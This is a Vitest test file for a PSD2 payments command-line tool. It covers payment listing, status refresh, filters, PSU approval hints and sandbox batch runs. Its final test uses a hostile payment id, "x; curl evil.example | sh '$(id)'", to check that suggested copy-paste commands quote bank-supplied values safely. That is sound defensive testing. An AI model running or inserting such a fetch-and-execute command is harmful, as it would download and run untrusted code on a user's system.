import { tmpdir } from 'node:os';
import { beforeAll, describe, expect, it } from 'vitest';
import { nextCommands } from '../../src/payments/view.ts';
import { homeWithKeys } from '../support/home-with-keys.ts';
import { oneHome } from '../support/one-home.ts';
import { psd2 } from '../support/program.ts';
import { CREATE, homeAt, PSU, servedBank } from '../support/remote-home.ts';
import { atTerminal } from '../support/terminal.ts';

const { run, json } = oneHome();
const HERE = { cwd: tmpdir() };

async function made(...args: string[]): Promise<string> {
  return (await run(['payments', 'create', '--example', '--quiet', ...args], HERE)).stdout.trim();
}

let [domestic, bulk] = ['', ''];
beforeAll(async () => {
  await run(['sandbox', 'clock', 'set', '2026-11-18T10:00:00+01:00'], HERE);
  domestic = await made('--domestic', '--amount', '12.50', '--to-name', 'Sørlandet Betaling');
  bulk = await made('--bulk');
  await made('--instant', '--sca', 'approve');
});

describe('payments list [C-payments-list, C-newest-payment]', () => {
  it('asks the bank with --refresh, for those that are not final alone', async () => {
    await run(['sca', 'approve', bulk]);
    await run(['sandbox', 'batch', 'run']);
    const { code, stdout, stderr } = await run(['payments', 'list', '--refresh', '--verbose']);
    expect(code).toBe(0);
    expect(stdout).toMatch(new RegExp(`^${bulk} .* ACSC {2}booked `, 'm'));
    expect(stdout).toMatch(new RegExp(`^${domestic} .* RCVD {2}`, 'm'));
    expect(stderr.match(/^> GET \S+\/status$/gm)).toHaveLength(2);
    expect(stderr).not.toContain('instant-norwegian');
  });

  it.each([
    ['was declined', ['decline']],
    ['failed in its SCA', ['approve', '--as', '15813963008', '--from-bban', '99901271948']],
  ])('knows at once that a payment %s', async (_, way) => {
    await run(['payments', 'create', '--domestic', '--example', '--sca', ...way], HERE);
    const { value } = await json(['payments', 'list', '--limit', '1'], HERE);
    expect(value.items[0].transactionStatus).toBe('RJCT');
  });

  it('selects by status, also of those that it refreshed, and by time, and then counts', async () => {
    const idsOf = async (...args: string[]) =>
      (await run(['payments', 'list', '--quiet', ...args], HERE)).stdout.trim();
    expect(await idsOf('--status', 'RCVD')).toBe(domestic);
    expect(await idsOf('--status', 'RCVD', '--status', 'ACSC', '--limit', '1', '--since', '1h')).not.toBe(
      domestic,
    );
    expect(await idsOf('--since', '2999-01-01')).toBe('');
    const { code, stderr } = await run(['payments', 'list', '--since', 'yesterday'], HERE);
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('For example 2026-11-18') });
    await run(['sca', 'approve', domestic]);
    await run(['sandbox', 'batch', 'run']);
    expect(await idsOf('--status', 'RCVD')).toBe('');
    expect(await idsOf('--status', 'ACSC', '--refresh')).toContain(domestic);
  });

  it('says which payment the bank did not tell of, goes on, and exits with that code', async () => {
    const crossBorder = await made('--cross-border');
    await run(['sandbox', 'init', '--yes']);
    const { code, stdout, stderr } = await run(['payments', 'list', '--refresh']);
    expect(code).toBe(3);
    expect(stdout.trimEnd().split('\n')).toHaveLength(6);
    expect(stderr).toContain(`Payment ${crossBorder} couldn't be refreshed.`);
    const whole = await json(['payments', 'list', '--refresh']);
    expect({ code: whole.code, stderr: whole.stderr }).toEqual({ code: 3, stderr: '' });
    expect(whole.value.items[0].error).toMatchObject({ code: 'BANK_REFUSED' });
  });
});

const CROSS_BORDER = ['payments', 'create', '--cross-border', '--example', '--quiet'];

describe('a payment that waits for its PSU [C-status-waiting, C-newest-payment]', () => {
  it('says where the PSU approves it at a bank elsewhere, and plays nobody there', async () => {
    const home = await homeAt(await servedBank(), { ...PSU, operatorUrl: undefined });
    const { stdout } = await psd2([...CREATE, '--json'], { home });
    const { paymentId, _links: links } = JSON.parse(stdout);
    const read = await psd2(['status', '--json'], { home });
    expect({ code: read.code, ...JSON.parse(read.stdout).error }).toMatchObject({
      ...{ exitCode: 3, status: 404, paymentId, scaRedirect: links.scaRedirect.href },
      message: `Payment ${paymentId} is waiting for its PSU. It can be read once the PSU has approved it.`,
      hint: `Approve it:\npsd2 payments authorise ${paymentId}`,
    });
  });

  it('tells a person which payment it is, and the commands that approve it [C-sca-command]', async () => {
    const home = await homeWithKeys();
    const paymentId = (await psd2(CROSS_BORDER, { home })).stdout.trim();
    const { code, all } = await atTerminal(['status', '--sca', 'none'], [], { home });
    expect(code).toBe(0);
    const lines = all.replaceAll('\r', '').split('\n');
    expect(lines).toContain(`The newest payment of this profile: ${paymentId}`);
    expect(lines.slice(lines.indexOf('Next:'))).toEqual(['Next:', `  psd2 sca approve ${paymentId}`, '']);
  });
});

it('what a batch run did is said of dates, and that the list was read before [C-payments-list, C-batch-run]', async () => {
  const home = await homeWithKeys();
  await psd2(['payments', 'create', '--domestic', '--example', '--sca', 'approve'], { home });
  const shown = async (...line: string[]) =>
    (await atTerminal(line, [], { home })).all.replaceAll(/\s+/g, ' ');
  const dated =
    "A run that is started early also books payments of the next run's day, with this bank day as their execution date.";
  expect(await shown('sandbox', 'batch', 'run')).toContain(dated);
  expect(await shown('sandbox', 'batch', 'run')).not.toContain(dated);
  const stale = 'Statuses as last read. To ask the bank: psd2 payments list --refresh';
  expect(await shown('payments', 'list')).toContain(stale);
  expect(await shown('payments', 'list', '--refresh')).not.toContain(stale);
  expect(await shown('payments', 'list')).not.toContain(stale);
});

const HOSTILE = "x; curl evil.example | sh '$(id)'";
const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";

it('an id in a command to copy is one word where it comes from the bank [S10-pasted-id, C-create-result]', () => {
  const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
  const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
  const created = { paymentId: HOSTILE, transactionStatus: 'RCVD', _links, _meta };
  expect(nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1])).toEqual([
    `sca approve ${QUOTED}`,
    'sandbox batch run',
    `status ${QUOTED} --watch`,
  ]);
  const elsewhere = nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1], false);
  expect(elsewhere).toEqual([`payments authorise ${QUOTED}`, `status ${QUOTED} --watch`]);
});
